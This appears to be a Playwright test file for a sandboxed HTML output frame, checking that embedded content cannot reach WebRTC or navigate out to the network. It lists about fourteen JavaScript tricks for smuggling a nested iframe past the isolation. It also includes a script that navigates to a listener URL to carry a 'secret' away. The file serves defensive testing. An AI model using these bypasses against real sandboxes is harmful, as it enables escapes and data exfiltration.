"""The isolated frame keeps WebRTC, the one way to the network that no content policy covers, out of reach."""

from __future__ import annotations

import time
from html import escape

from browserlab import Listener
from playwright.sync_api import Browser, Page

from ipy_sandbox.safe_output.frame import _policy, frame

REPORT = "<script>document.title = 'nested ' + typeof RTCPeerConnection</script>"
QUOTED = REPORT.replace("</", r"<\/")
XML = escape(REPORT)
NAMESPACE = "http://www.w3.org/1999/xhtml"
WAYS = {
    "itself": "document.title = `direct ${typeof RTCPeerConnection}`",
    "property": f"f = document.createElement('iframe'); f.srcdoc = `{QUOTED}`; document.body.append(f)",
    "attribute": f"f = document.createElement('iframe'); f.setAttribute('srcdoc', `{QUOTED}`); document.body.append(f)",
    "attribute node": "f = document.createElement('iframe'); p = document.createElement('p');"
    f"p.setAttribute('srcdoc', `{QUOTED}`); a = p.attributes[0]; p.removeAttributeNode(a);"
    "f.setAttributeNode(a); document.body.append(f)",
    "markup": f"p = document.createElement('p'); p.innerHTML = `<iframe srcdoc='{XML}'>`; document.body.append(p)",
    "another document": "d = document.implementation.createHTMLDocument('');"
    f"f = d.createElement('iframe'); f.srcdoc = `{QUOTED}`; document.body.append(document.adoptNode(f))",
    "written in pieces": "d = document.implementation.createHTMLDocument('');"
    f"d.write('<ifr'); d.write(`ame srcdoc='{XML}'>`); document.body.append(d.body.firstChild)",
    "document.write": f"document.write('<ifr'); document.write(`ame srcdoc='{XML}'></iframe>`)",
    "xml": f"d = new DOMParser().parseFromString(`<x:iframe xmlns:x='{NAMESPACE}' srcdoc='{XML}'/>`, 'text/xml');"
    "document.body.append(document.adoptNode(d.documentElement))",
    "entity": "d = new DOMParser().parseFromString("
    f"`<!DOCTYPE p [<!ENTITY e '<x:ifr'>]><p xmlns:x='{NAMESPACE}'>&e;</p>`, 'text/xml')",
    "request": f"x = new XMLHttpRequest; x.open('GET', `data:text/html,<ifr` + `ame srcdoc='{XML}'>`);"
    "x.responseType = 'document'; x.onload = () => document.body.append(x.response.body.firstChild); x.send()",
    "changed prototypes": "String.prototype.includes = String.prototype.toLowerCase = () => false;"
    f"f = document.createElement('iframe'); f.srcdoc = `{QUOTED}`; document.body.append(f)",
    "empty frame": "f = document.createElement('iframe'); document.body.append(f);"
    "document.title = `blank ${typeof f.contentWindow.RTCPeerConnection}`",
    "script address": "f = document.createElement('iframe');"
    "f.src = 'javascript:document.title = `nested ${typeof RTCPeerConnection}`'; document.body.append(f)",
}


def titles(page: Page, body: str, least: int) -> list[str]:
    """The titles of all frames of a page: when there are so many, and a moment later."""
    page.route(
        "http://127.0.0.1:9/", lambda route: route.fulfill(body=f"<!doctype html>{body}", content_type="text/html")
    )
    page.goto("http://127.0.0.1:9/")
    deadline = time.monotonic() + 30
    while len(found(page)) < least and time.monotonic() < deadline:
        page.wait_for_timeout(50)
    # That no more come is no event.
    page.wait_for_timeout(500)
    return found(page)


def found(page: Page) -> list[str]:
    return [title for frame in page.frames if (title := frame.title())]


# The last way is markup, whose frame becomes the page.
HARMLESS = ["direct undefined", "nested undefined"]


def pages() -> list[str]:
    return [f"<body><script>{code}</script>" for code in WAYS.values()] + [
        f'<body><iframe srcdoc="{escape(REPORT)}"></iframe>'
    ]


def test_no_way_leads_to_webrtc(browser: Browser) -> None:
    page = browser.new_page()
    assert titles(page, "".join(frame(html) for html in pages()), 2) == HARMLESS
    page.close()


def test_without_the_lock_many_ways_do(browser: Browser) -> None:
    page = browser.new_page()
    bare = "".join(f'<iframe sandbox="allow-scripts" srcdoc="{escape(html)}"></iframe>' for html in pages())
    assert titles(page, bare, 11).count("nested function") >= 10
    page.close()


def test_compressed_page_is_locked_too(browser: Browser) -> None:
    page = browser.new_page()
    filler = "<!--" + "x" * 200_000 + "-->"
    assert titles(page, "".join(frame(html + filler) for html in pages()), 2) == HARMLESS
    page.close()


def test_host_is_asked_only_if_the_reader_opened_it(browser: Browser, listener: Listener) -> None:
    listener.requests.clear()
    html = f"<script src='{listener.address}/NAME.js' onerror='document.title=1' onload='document.title=2'></script>"
    page = browser.new_page()
    opened = frame(html.replace("NAME", "opened"), hosts=[listener.address])
    titles(page, opened + frame(html.replace("NAME", "closed")), 2)
    assert listener.requests == ["/opened.js"]
    page.close()


def test_frame_cannot_navigate_to_carry_data_away(browser: Browser, listener: Listener) -> None:
    leaving = f"<script>document.title = 'ran'; location = '{listener.address}/?secret'</script>"
    page = browser.new_page()
    listener.requests.clear()
    titles(page, f'<iframe sandbox="allow-scripts" srcdoc="{escape(_policy(()) + leaving)}"></iframe>', 1)
    assert listener.requests == ["/?secret"]  # a policy alone does not keep it
    listener.requests.clear()
    titles(page, frame(leaving) + frame("<script>document.title = 'other'</script>"), 1)
    assert listener.requests == []
    page.close()
